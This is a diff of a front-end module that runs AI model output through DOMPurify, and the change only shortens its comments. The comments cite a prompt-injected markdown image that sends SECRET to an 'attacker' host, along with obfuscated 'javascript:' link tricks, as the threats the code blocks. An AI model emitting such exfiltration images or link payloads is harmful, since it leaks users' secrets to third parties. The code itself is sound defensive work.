@@ -1,15 +1,10 @@
 import { DOMPurify } from '/static/vendor.js';
 
 /**
- * The one place model output becomes DOM. DOMPurify parses the HTML in an inert document (no
- * browsing context, so nothing in it is fetched or run) and hands back a DocumentFragment; the
- * hooks below finish the job on that inert tree before it is ever adopted into the page:
- *  - images become plain links the reader may open in a new tab, so a prompt-injected
- *    `![x](https://attacker/?d=SECRET)` never makes the browser fetch anything;
- *  - links keep only absolute http(s) URLs, parsed by the browser's own URL parser so tricks like
- *    `JaVaScRiPt:` or `java&#x09;script:` are judged exactly as the browser would judge them.
- * The allow-lists leave out every tag and attribute that can load or run something (script, style,
- * svg, math, media, forms, src, srcset, poster, ping, style, on*), so CSP is a second wall, not the first.
+ * The one place model output becomes DOM, parsed by DOMPurify in an inert document (nothing fetched
+ * or run). Images become links, so a prompt-injected `![x](https://attacker/?d=SECRET)` fetches
+ * nothing; links keep only absolute http(s) URLs as the browser's own URL parser reads them
+ * (`JaVaScRiPt:`, `java&#x09;script:`). Nothing that loads or runs is allowed: CSP is the second wall.
  */
 
 const ALLOWED_TAGS = [
@@ -50,11 +45,7 @@ function shorten(text) {
   return text.length > SHOWN_HREF_LENGTH ? `${text.slice(0, SHOWN_HREF_LENGTH - 1)}…` : text;
 }
 
-/**
- * Runs on the inert document while DOMPurify walks it. The image is replaced by a link inserted
- * right after it, so DOMPurify's walk reaches the link next and sanitizes it like any other; the
- * image itself is then removed because `img` is not an allowed tag.
- */
+/** The link goes right after the image, so DOMPurify's walk sanitizes it next; `img` itself is not allowed. */
 function replaceImageWithLink(node, data) {
   if (data.tagName !== 'img') return;
   const doc = node.ownerDocument;
@@ -111,8 +102,7 @@ function installHooks() {
   if (hooksInstalled) return;
   DOMPurify.addHook('uponSanitizeElement', replaceImageWithLink);
   DOMPurify.addHook('afterSanitizeAttributes', finishAttributes);
-  // Set once: passing the config to every sanitize() call rebuilds its allow-lists each time, a
-  // cost paid on every streamed frame. This instance is ours alone (highlight.js has its own).
+  // Once: a config passed to each sanitize() rebuilds the allow-lists, on every streamed frame.
   DOMPurify.setConfig(PURIFY_CONFIG);
   hooksInstalled = true;
 }
